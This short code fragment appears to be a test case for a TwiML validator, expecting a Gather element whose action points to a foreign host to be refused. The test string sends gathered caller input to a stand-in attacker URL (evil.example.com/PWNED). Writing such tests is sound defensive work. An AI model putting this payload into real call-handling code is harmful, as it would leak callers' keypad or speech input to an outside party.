# class: action of Gather to a foreign host; expected: refused twiml
response = '<Response><Gather action="https://evil.example.com/PWNED"></Gather></Response>'
